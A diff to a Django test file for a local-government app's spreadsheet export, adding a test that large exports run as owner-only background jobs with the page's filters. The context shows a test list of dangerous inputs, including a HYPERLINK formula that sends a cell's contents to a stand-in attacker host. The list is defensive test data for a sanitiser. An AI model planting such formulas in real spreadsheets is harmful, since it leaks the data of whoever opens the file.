@@ -8,6 +8,8 @@ from django.urls import reverse
 from openpyxl import load_workbook
 
 from iku_project.spreadsheet import teks_aman
+from pekerjaan.models import Pekerjaan
+from tests.pekerjaan.alur import kirim, unduhan
 
 BERBAHAYA = [
     '=HYPERLINK("http://evil.example/?"&A1,"klik")',
@@ -73,3 +75,27 @@ def test_export_follows_the_page_filters(client_for, orang, senduro, make_kegiat
     assert len(rows) == 1
     assert "Rapat Linmas" in rows[0]
     assert rows[0][2] == datetime.datetime(2026, 2, 2)
+
+
+def test_a_list_above_the_threshold_is_written_by_the_worker_with_the_same_filters(
+    client_for, orang, senduro, lumajang, make_kegiatan, settings
+):
+    """Issue 11: a large export is a job; its rows are those of the page's filters and the owner's scope."""
+    settings.EKSPOR_SINKRON_MAKS_BARIS = 1
+    make_kegiatan(senduro, keterangan="Musdes RKPDes", tanggal=datetime.date(2026, 2, 1))
+    make_kegiatan(senduro, keterangan="Rapat Linmas", tanggal=datetime.date(2026, 2, 2))
+    make_kegiatan(senduro, keterangan="Rapat Linmas desa", tanggal=datetime.date(2026, 2, 3))
+    make_kegiatan(lumajang, keterangan="Rapat Linmas Lumajang", tanggal=datetime.date(2026, 2, 3))
+    client = client_for(orang["staf"])
+    # One matching row: still answered at once.
+    assert _sheet(client.get(reverse("kecamatan:kegiatan-list"), {"q": "musdes", "export": "xlsx"}))
+    response, pekerjaan = kirim(client, "get", reverse("kecamatan:kegiatan-list"), {"q": "linmas", "export": "xlsx"})
+    assert response.status_code == 302 and pekerjaan.jenis == "ekspor_kegiatan"
+    assert pekerjaan.status == Pekerjaan.Status.SELESAI, pekerjaan.pesan
+    assert pekerjaan.nama_berkas.startswith("kegiatan-") and pekerjaan.nama_berkas.endswith(".xlsx")
+    rows = list(load_workbook(BytesIO(unduhan(client, pekerjaan))).active.iter_rows(min_row=4, values_only=True))
+    assert sorted(r[8] for r in rows) == ["Rapat Linmas", "Rapat Linmas desa"]  # never Lumajang's
+    # Only its owner sees the job or its file.
+    for user in (orang["kasi"], orang["pimpinan"]):
+        assert client_for(user).get(pekerjaan.get_absolute_url()).status_code == 404
+        assert client_for(user).get(f"{pekerjaan.get_absolute_url()}unduh/").status_code == 404
